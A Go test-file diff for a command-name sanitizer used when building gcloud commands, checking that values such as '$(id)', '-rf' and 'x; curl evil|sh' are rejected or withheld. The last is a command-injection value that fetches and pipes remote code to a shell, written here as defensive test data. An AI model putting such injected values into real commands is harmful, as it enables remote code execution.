@@ -175,3 +175,36 @@ func FuzzSanitize(f *testing.F) {
 		}
 	})
 }
+
+func TestIsName(t *testing.T) {
+	for _, ok := range []string{"", "my-project", "example.com:my-project", "us-central1", "redis-connector",
+		"projects/p/locations/us-central1/connectors/c", "123456789012-compute@developer.gserviceaccount.com",
+		"10.8.0.0/28", "REDIS_AUTH", "https://www.googleapis.com/compute/v1/projects/p/global/networks/default"} {
+		if !IsName(ok) {
+			t.Errorf("IsName(%q) = false, want true", ok)
+		}
+	}
+	for _, bad := range []string{"-rf", "--impersonate-service-account=x", "a b", "a;b", "$(id)", "`id`", "a|b", "a'b", `a"b`,
+		"a\nb", "a\x1bb", "a,b", "a=b", "~root", "*", "a\u202eb", "é", strings.Repeat("a", maxNameLength+1)} {
+		if IsName(bad) {
+			t.Errorf("IsName(%q) = true, want false", bad)
+		}
+	}
+}
+
+func TestCommand(t *testing.T) {
+	got := Command("gcloud x %s --port %d %s", "name", 6379, Words("--flag 'a b'"))
+	if want := "gcloud x name --port 6379 --flag 'a b'"; got != want {
+		t.Errorf("Command = %q, want %q", got, want)
+	}
+	if _, withheld := Withheld(got); withheld {
+		t.Errorf("Withheld(%q) = true", got)
+	}
+	bad := Command("gcloud x %s --project %s", "x; curl evil|sh", "p")
+	if value, withheld := Withheld("prefix " + bad + " suffix"); !withheld || value != "x; curl evil|sh" {
+		t.Errorf("Withheld = %q, %t; want the hostile value, true", value, withheld)
+	}
+	if strings.Contains(bad, "gcloud") {
+		t.Errorf("a withheld command must not carry the command: %q", bad)
+	}
+}
